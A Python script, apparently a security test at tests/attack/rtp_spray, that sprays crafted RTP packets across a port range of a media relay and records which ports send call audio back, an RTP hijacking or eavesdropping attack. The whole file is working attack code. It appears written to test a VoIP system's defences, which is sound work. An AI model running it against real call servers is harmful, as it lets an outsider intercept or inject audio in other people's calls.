"""Somebody on the network who knows nothing of a call and wants its audio: whoever sends first owns the leg.

Sends RTP blindly to every port of a range, over and over, from an address of its own, and listens for what comes back:
the party's voice, the announcement.

    python -m tests.attack.rtp_spray --target 127.0.0.1 --ports 20000-20999 --host 127.0.0.66 --seconds 5

Prints ``sent``; ``heard``, the packets that came back; and ``won``, the ports that they came from.
"""

from __future__ import annotations

import argparse
import json
import select
import socket
import struct
import sys
import time

SSRC = 0xBAD0BAD
VOICE = bytes((0x00, 0x00, 0x80, 0x80)) * 40
"""µ-law, 20 ms: a loud tone of 2,000 Hz."""


def packet(number: int) -> bytes:
    """The nth packet of a stream."""
    return struct.pack("!BBHII", 0x80, 0, number & 0xFFFF, number * 160 & 0xFFFFFFFF, SSRC) + VOICE


def main(argv: list[str]) -> int:
    """Run it; 0."""
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--target", default="127.0.0.1")
    parser.add_argument("--ports", required=True, help="FIRST-LAST; the even ones are tried")
    parser.add_argument("--host", default="127.0.0.66", help="the stranger's own address")
    parser.add_argument("--seconds", type=float, default=5.0)
    options = parser.parse_args(argv)
    first, _, last = options.ports.partition("-")
    sent, heard, won = 0, 0, set()
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as own:
        own.bind((options.host, 0))
        own.setblocking(False)
        end = time.monotonic() + min(options.seconds, 60.0)
        number = 0
        while time.monotonic() < end:
            number += 1
            data = packet(number)
            for port in range(int(first), int(last) + 1, 2):
                own.sendto(data, (options.target, port))
                sent += 1
            pause = time.monotonic() + 0.02
            while select.select([own], [], [], max(0.0, pause - time.monotonic()))[0]:
                _, source = own.recvfrom(2048)
                heard += 1
                won.add(source[1])
    print(json.dumps({"sent": sent, "heard": heard, "won": sorted(won)}))
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
